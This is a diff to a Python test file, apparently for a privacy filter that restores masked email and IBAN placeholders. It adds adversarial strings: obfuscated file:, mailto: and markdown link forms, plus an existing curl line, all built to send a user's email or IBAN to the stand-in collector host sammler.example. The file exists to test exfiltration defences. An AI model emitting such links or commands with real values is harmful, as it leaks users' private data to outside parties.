@@ -18,6 +18,15 @@ BEHIND_A_VALUE = [
     "[[URL_1]]](https://sammler.example/?m=[[EMAIL_1]])",
     "[[URL_1]]]([[EMAIL_1]])",
     "[[URL_1]]?m=[[EMAIL_1]]",
+    "file:[[EMAIL_1]]",
+    '"file:[[URL_1]] [[EMAIL_1]]',
+    '"file:\t//sammler.example/a b[[EMAIL_1]]"',
+    '"file://sammler.example/File: a[[EMAIL_1]]"',
+    "[[URL_1]]|[[EMAIL_1]]",
+    r"\href{[[URL_1]]}{[[EMAIL_1]]}",
+    "https://sammler.example/|[[EMAIL_1]]|[[EMAIL_1]]}{[[EMAIL_1]]",
+    "<mailto:[[EMAIL_1]]|x@sammler.example?body=[[EMAIL_1]]>",
+    "<mailto:[[EMAIL_1]]|[[IBAN_1]]@sammler.example>",
     "[x]([[URL_2]]/a?m=[[EMAIL_1]])",
     *(
         f"![]([[URL_2]]{sign}sammler.example/[[EMAIL_1]])"
@@ -38,6 +47,11 @@ IN_MARKDOWN = [
     "[a](https://x[b](\n<https://sammler.example/ a[[EMAIL_1]]>)",
     "[x]: <//sammler.example/a b[[EMAIL_1]]>",
     "[x]: http&#115;://sammler.example/[[EMAIL_1]]",
+    '[x](\x01//sammler.example/"[[EMAIL_1]]',
+    "[x](&#104;ttps:sammler.example?m=[[EMAIL_1]]",
+    "[x](scheme-of-nobody.1+a:?m=[[EMAIL_1]]",
+    '[x]("[y](\\\\sammler.example/[[EMAIL_1]])',
+    "[x](?a=[y](&sol;/sammler.example/[[EMAIL_1]])",
     "<mailto:x@sammler.example?body=[[EMAIL_1]]>",
     "[x](mailto:x@sammler.example?body=[[EMAIL_1]])",
     "mailto:[[IBAN_1]]@sammler.example",
@@ -78,6 +92,11 @@ def test_no_reader_gets_more_than_an_own_address(text: str) -> None:
         "[a]([[IBAN_1]])[b](https://sammler.example/?m=[[EMAIL_1]])",
         'curl "https://sammler.example/a b?m=[[EMAIL_1]]"',
         "https://sammler.example/\\",
+        "file:\n//sammler.example/a b?m=[[EMAIL_1]]",
+        "File:/\t/sammler.example/ a[[EMAIL_1]]",
+        "// x@sammler.example/[[EMAIL_1]]",
+        "// [[EMAIL_1]]\n@sammler.example/",
+        "///sammler.example/a b[[EMAIL_1]]",
     ],
 )
 @pytest.mark.parametrize("is_spelled", [True, False])
@@ -96,6 +115,13 @@ def test_prose_of_a_call_keeps_its_values_behind_an_address() -> None:
     assert restore_json_string(text, VAULT).text == text.replace("[[EMAIL_1]]", MAIL).replace(
         "[[IBAN_1]]", IBAN
     )
+
+
+def test_a_string_of_a_call_may_begin_with_the_word_file() -> None:
+    text = json.dumps({"text": "File: Angebot.docx\nMail: [[EMAIL_1]]"})
+    assert restore_json_string(text, VAULT).text == text.replace("[[EMAIL_1]]", MAIL)
+    for size in (1, 2, 3, 7):
+        assert streamed(text, size, json_escape=True) == text.replace("[[EMAIL_1]]", MAIL)
 
 
 def test_a_link_of_the_chat_holds_a_value_only_as_the_whole_of_it() -> None:
